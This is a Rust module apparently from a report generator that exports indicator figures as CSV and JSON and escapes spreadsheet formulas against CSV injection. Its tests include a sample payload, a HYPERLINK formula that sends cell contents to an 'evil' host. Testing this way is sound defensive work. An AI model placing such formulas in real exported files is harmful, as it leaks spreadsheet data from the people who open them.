//! The data files: `data/indicators.csv` and `data/indicators.json`, every computed
//! figure for spreadsheets and dashboards, and `data/reports/<unit>/<period>.json`, each
//! report's whole model for other tools. All are rendered from the report models. Only
//! reported or computed figures appear in the indicator files; a missing figure has no
//! row (not a 0).

use serde_json::{json, Map, Value};

use super::{OutputFile, ReportJob, ReportRenderer};
use crate::analysis::Analysis;
use crate::diag::Diagnostics;
use crate::model::UnitId;
use crate::report::{Basis, Figure, PeriodInfo, Report};

/// Excel opens a CSV as UTF-8 only when it starts with a byte-order mark.
const BOM: &str = "\u{FEFF}";

/// A report's model as JSON, at `data/reports/<unit's site path>/<period>.json`.
pub struct ModelJson;

impl ReportRenderer for ModelJson {
    fn render(&self, job: &ReportJob, _diags: &mut Diagnostics) -> Vec<OutputFile> {
        let mut path = String::from("data/reports/");
        for seg in &job.model.unit.site_path {
            path.push_str(seg);
            path.push('/');
        }
        path.push_str(&job.model.period.id);
        path.push_str(".json");
        // Compact: a site has a model per report, and pretty-printing would make them
        // two thirds larger; any JSON viewer indents them.
        let mut bytes = serde_json::to_vec(job.model).expect("the model is plain data");
        bytes.push(b'\n');
        vec![OutputFile { path, bytes }]
    }
}

/// What the indicator files list of one report: its reported figures.
#[derive(Clone)]
pub struct Row {
    pub(super) unit: UnitId,
    pub(super) period: PeriodInfo,
    pub(super) basis: Basis,
    figures: Vec<Figure>,
}

impl Row {
    pub fn of(unit: UnitId, r: &Report) -> Row {
        Row {
            unit,
            period: r.period.clone(),
            basis: r.basis,
            figures: r
                .figures
                .iter()
                .filter(|f| f.value.is_some())
                .cloned()
                .collect(),
        }
    }

    pub(super) fn values(&self) -> impl Iterator<Item = (&Figure, f64)> {
        self.figures.iter().filter_map(|f| f.value.map(|v| (f, v)))
    }
}

/// The indicator files from every report's row, listed unit by unit (rows come in the
/// order the units and their periods are listed).
pub fn files(analysis: &Analysis, rows: &[Row]) -> Vec<OutputFile> {
    vec![
        OutputFile {
            path: "data/indicators.csv".into(),
            bytes: csv(analysis, rows).into_bytes(),
        },
        OutputFile {
            path: "data/indicators.json".into(),
            bytes: json(analysis, rows).into_bytes(),
        },
    ]
}

/// The export's word for a basis; `halves` predates periods of other lengths and stays
/// for the spreadsheets that read it.
fn basis_word(b: Basis) -> &'static str {
    match b {
        Basis::Own => "own",
        Basis::Parts => "halves",
        Basis::SubUnits => "subunits",
    }
}

/// Full precision, no float noise: 0.9010000000000001 is written 0.901.
fn raw(v: f64) -> String {
    let rounded = (v * 1e9).round() / 1e9;
    let text = format!("{rounded}");
    if text == "-0" {
        "0".into()
    } else {
        text
    }
}

/// Text that a spreadsheet would run as a formula (`=HYPERLINK(…)` typed as a unit name)
/// gets a leading `'`, as OWASP advises for CSV injection: Excel then shows it as text.
/// Numbers such as -5 stay numbers. Every writer of spreadsheet text cells (CSV, .xlsx)
/// goes through this.
pub fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    if risky {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

fn csv_field(s: &str) -> String {
    let s = neutralise_formula(s);
    if s.contains([',', '"', '\n', '\r', '\t', '\'']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

fn csv(analysis: &Analysis, rows: &[Row]) -> String {
    let project = &analysis.project;
    let pd = project.config.percent_decimals;
    let mut out = String::from(BOM);
    // Headers in words for the people who open it; the id columns stay for machines.
    out.push_str(analysis.locale().words.csv_header);
    out.push_str("\r\n");
    for row in rows {
        let u = &project.units[row.unit];
        let path = u.path.join("/");
        for (f, v) in row.values() {
            let i = &f.indicator;
            let fields = [
                path.as_str(),
                &u.name,
                &row.period.id,
                &row.period.label,
                basis_word(row.basis),
                &i.id,
                &i.label,
                &i.unit,
                &raw(v),
                &super::pages::value_text(i, Some(v), pd),
            ];
            let line: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
            out.push_str(&line.join(","));
            out.push_str("\r\n");
        }
    }
    out
}

fn json(analysis: &Analysis, rows: &[Row]) -> String {
    let project = &analysis.project;
    let indicators: Vec<Value> = project
        .catalog
        .entries()
        .iter()
        .map(
            |e| json!({"id": e.id, "label": e.label, "unit": e.unit, "ratio": e.ratio().is_some()}),
        )
        .collect();
    let mut periods_of: Vec<Map<String, Value>> = vec![Map::new(); project.units.len()];
    for row in rows {
        let mut values = Map::new();
        for (f, v) in row.values() {
            let n: f64 = raw(v).parse().expect("a number");
            values.insert(f.indicator.id.clone(), json!(n));
        }
        periods_of[row.unit].insert(
            row.period.id.clone(),
            json!({"basis": basis_word(row.basis), "values": values}),
        );
    }
    let units: Vec<Value> = project
        .units
        .iter()
        .zip(periods_of)
        .map(|(u, periods)| {
            json!({
                "path": u.path.join("/"),
                "name": u.name,
                "parent": u.parent.map(|p| project.units[p].path.join("/")),
                "periods": periods,
            })
        })
        .collect();
    let doc = json!({
        "title": project.config.title,
        "organisation": project.config.organisation,
        "indicators": indicators,
        "units": units,
    });
    serde_json::to_string_pretty(&doc).expect("JSON of plain values") + "\n"
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(csv_field("城关镇"), "城关镇");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
    }

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""
        );
        for risky in ["+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert!(csv_field(risky).starts_with("\"'"), "{risky}");
        }
        assert_eq!(csv_field("-5"), "-5");
        assert_eq!(csv_field("0.25"), "0.25");
    }

    #[test]
    fn raw_numbers_drop_float_noise() {
        // 901 ÷ 1000 computed in floating point prints as 0.901
        assert_eq!(raw(0.1 + 0.2), "0.3");
        assert_eq!(raw(901.0 / 1000.0), "0.901");
        assert_eq!(raw(45.0), "45");
    }
}
